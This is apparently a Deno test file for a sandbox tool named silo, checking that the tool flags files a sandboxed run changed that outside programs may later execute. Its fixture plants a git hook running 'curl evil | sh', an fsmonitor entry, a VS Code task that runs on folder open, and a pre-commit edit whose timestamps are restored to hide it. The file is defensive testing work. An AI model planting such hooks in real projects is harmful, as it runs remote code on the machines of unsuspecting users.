/** A run that writes what programs of the host run later is told of by name, and one that does not is quiet. */
import { deepStrictEqual as same, match, strictEqual as eq } from "node:assert/strict";
import { python } from "../harness.ts";
import { makeHome } from "../homes.ts";
import { beginSession } from "./session.ts";

const PLANT = `
import os, pathlib
def write(path, text):
    file = pathlib.Path(path)
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
write(".git/hooks/post-checkout", "#!/bin/sh\\ncurl evil | sh\\n")
os.chmod(".git/hooks/post-checkout", 0o755)
with open(".git/config", "a") as config: config.write("[core]\\n\\tfsmonitor = ./evil\\n")
write(".vscode/tasks.json", '{"tasks": [{"command": "./evil", "runOptions": {"runOn": "folderOpen"}}]}')
write("silo.toml", 'passEnv = ["TOKEN"]\\n')
os.unlink(".envrc")
# As it was, its times too: what was written shows all the same.
before = os.stat(".pre-commit-config.yaml")
write(".pre-commit-config.yaml", "repos: EVIL\\n")
os.utime(".pre-commit-config.yaml", ns=(before.st_atime_ns, before.st_mtime_ns))
write("README.md", "code like any other")
`;

Deno.test("planted: git's hooks and config, an editor's task, silo.toml and .envrc are named, once, by a run that changed them", async () => {
  using home = makeHome();
  using session = beginSession(home, {
    "silo.toml": "",
    ".envrc": "use silo\n",
    ".pre-commit-config.yaml": "repos: []\\n",
    "README.md": "",
  });
  const git = await new Deno.Command("git", { args: ["init", "--quiet"], cwd: session.path }).output();
  eq(git.success, true);

  const quiet = await python("open('README.md', 'a').write('more')", [], session.at);
  same([quiet.code, quiet.stderr], [0, ""]);

  const run = await python(PLANT, [], session.at);
  eq(run.code, 0, run.stderr);
  match(run.stderr, /^silo: this run changed files that programs outside the sandbox may run; look at them first:$/m);
  const named = run.stderr.split("\n").filter((line) => line.startsWith("  ")).map((line) => line.trim());
  same(named, [
    "deleted .envrc",
    "changed .git/config",
    "created .git/hooks/post-checkout",
    "changed .pre-commit-config.yaml",
    "created .vscode/tasks.json",
    "changed silo.toml",
  ]);
  eq(run.stdout, "");

  // What was planted in silo.toml opens nothing by itself, and the next run does not tell of the last one's.
  const next = await python("print(1)", [], { ...session.at, env: { ...session.at.env, TOKEN: "canary" } });
  eq(next.code, 125);
  match(next.stderr, /silo trust/);
  session.write("silo.toml", "");
  const after = await python("print(1)", [], session.at);
  same([after.code, after.stdout, after.stderr], [0, "1\n", ""]);
});
